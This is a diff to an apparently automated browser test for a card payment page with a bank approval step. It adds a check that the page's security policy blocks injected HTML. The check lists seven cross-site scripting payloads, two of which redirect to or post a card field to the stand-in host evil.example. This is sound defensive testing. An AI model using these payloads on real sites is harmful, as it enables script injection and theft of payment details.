@@ -105,9 +105,36 @@ test('a card typed into Braintree’s own fields pays, its bank asked for a ques
   expect(stopped).toEqual([])
 })
 
-test('a bank that asks is answered over the page [F11] [ERR-23]', async ({ page }) => {
+test('a bank that asks is answered over the page, which lets nothing be written into it that runs [F11] [ERR-23] [T16] [T27]', async ({
+  page,
+}) => {
   test.slow()
   const { stopped } = await open(page)
+  const hostile = [
+    '<svg/onload=alert(1)>',
+    '<img/src=x/onerror=alert(1)>',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<meta http-equiv=refresh content=0;url=https://evil.example>',
+    '<form action=https://evil.example><input name=card></form>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  ]
+  const written = await page.evaluate(
+    (texts) =>
+      texts.map((html) => {
+        try {
+          document.createElement('div').innerHTML = html
+          return 'written'
+        } catch {
+          return 'refused'
+        }
+      }),
+    [...hostile, '<div class="box"><span>Pay</span></div>'],
+  )
+  expect(written).toEqual([...hostile.map(() => 'refused'), 'written'])
+  // Each is a breach of the page's policy, which browsers report.
+  await expect.poll(() => stopped.length).toBeGreaterThan(0)
+  stopped.length = 0
   await typeCard(page, cards.challenge)
   await pay(page)
   await page.frameLocator('iframe[title="Your bank"]').getByRole('button', { name: 'Approve' }).click()
